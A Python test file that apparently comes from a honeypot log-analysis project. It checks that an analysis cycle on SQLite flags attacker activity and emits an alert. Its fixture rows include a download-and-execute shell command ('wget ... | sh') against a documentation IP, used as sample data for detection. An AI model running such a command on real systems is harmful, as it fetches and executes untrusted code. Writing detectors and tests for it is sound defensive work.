"""The local stack's default database: the whole cycle on SQLite, as on MariaDB."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import Engine, select

from rbr_analyst.analyst import Analyst
from rbr_analyst.settings import AnalystSettings
from rbr_analyst.store import AnalystStore
from rbr_runtime.db.engine import make_engine
from rbr_runtime.db.migrate import upgrade
from rbr_runtime.db.tables import log_analysis
from rbr_runtime.kafka import EventProducer
from rbr_schemas import ALERTS
from rbr_testing.broker import Broker
from rbr_testing.kafka import read_events
from rbr_testing.logrows import insert_rows, log_row

from .conftest import INTERVAL, NOW, WINDOW_START


@pytest.fixture
def sqlite_url(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path}/rbr.db"
    upgrade(url)
    return url


def test_cycle_on_sqlite(broker: Broker, sqlite_url: str) -> None:
    engine: Engine = make_engine(sqlite_url)
    at = WINDOW_START + timedelta(minutes=3)
    insert_rows(
        engine,
        [
            log_row(
                "rustbucket-a",
                at,
                "login_failed",
                source_ip="198.51.100.1",
                username="root",
                password="123456",
            ),
            log_row(
                "rustbucket-a",
                at,
                "command",
                source_ip="198.51.100.1",
                command="wget http://198.51.100.7/m -O- | sh",
            ),
        ],
    )
    settings = AnalystSettings(
        database_url=sqlite_url,
        kafka_bootstrap=broker.bootstrap,
        anthropic_api_key=None,
        analysis_grace=0,
    )
    producer = EventProducer(settings, source="/rbr/analyst")
    store = AnalystStore(engine)
    store.note_windows("rustbucket-a", "192.0.2.10", [WINDOW_START], INTERVAL, NOW)

    summary = Analyst(settings, store, producer, None, clock=lambda: NOW).run_cycle()

    assert summary.analysed == 1
    with engine.connect() as connection:
        row = connection.execute(select(log_analysis)).one()
    assert (row.severity, row.analyser, row.log_rows) == ("critical", "rules", 2)
    events = read_events(broker.bootstrap, ALERTS, at_least=1)
    assert "analysis:rustbucket-a:download_and_execute" in {e.data.dedupe_key for e in events}
    producer.flush()
    engine.dispose()
